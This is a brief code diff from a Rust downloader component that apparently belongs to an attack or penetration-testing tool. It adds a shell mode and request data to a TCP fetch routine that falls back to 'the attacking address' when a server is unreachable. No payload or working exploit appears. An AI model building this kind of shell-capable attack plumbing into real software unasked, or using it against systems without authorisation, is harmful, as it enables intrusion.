@@ -392,13 +392,14 @@ impl Downloader {
     fn run_tcp(&self, req: &Request, ctx: &Context) -> Result<Download, Failure> {
         let first = self.server(req, ctx, "TCP download");
         log_notice!("TCP download - Reading '{}' from {}.", req.filename, shown(&first, req));
-        let mut result = first.and_then(|server| tcp::fetch(server, ctx));
+        let shell = req.path == tcp::SHELL;
+        let mut result = first.and_then(|server| tcp::fetch(server, &req.data, shell, ctx));
         if let Some(other) = fallback(&result, ctx, req) {
             log_noisy!(
                 "TCP download - TCP server could not be reached, trying the attacking address ({}) instead.",
                 other.ip()
             );
-            result = tcp::fetch(other, ctx);
+            result = tcp::fetch(other, &req.data, shell, ctx);
         }
         finish(req, result, "tcp", "TCP download")
     }
